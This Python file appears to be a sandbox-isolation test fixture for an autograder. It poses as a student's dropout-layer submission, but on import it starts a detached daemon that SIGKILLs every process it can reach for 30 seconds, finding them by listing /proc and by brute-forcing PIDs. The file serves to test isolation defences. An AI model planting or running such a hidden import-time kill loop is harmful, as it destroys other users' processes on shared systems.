"""Hurts classmates: at import it starts a setsid() daemon that, for 30 s, SIGKILLs every process
it may signal except its own sandbox's worker (found by trying every pid, and by listing /proc).
Sandboxes that share one uid kill each other this way; a PID namespace hides every other process,
a uid of its own leaves nothing to signal, and Landlock's signal scoping refuses the rest. Never
graded under level weak (as root it would kill the machine's processes)."""

import os
import signal
import time

import numpy as np

EXPECT_STATUS = "graded"
EXPECT_MAX_SCORE = 6


def targets():
    try:
        listed = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        listed = set()
    return listed | set(range(2, 4 * 2**15))


worker = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        spared = {worker, os.getpid(), os.getppid()}
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            for pid in targets() - spared:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)


class DropoutLayer:
    def __init__(self, p):
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p
        self.mask = None

    def forward(self, x, training=True):
        if not training:
            return x
        self.mask = np.random.random_sample(x.shape) >= self.p
        return x * self.mask / (1 - self.p)

    def backward(self, grad):
        return grad * self.mask / (1 - self.p)
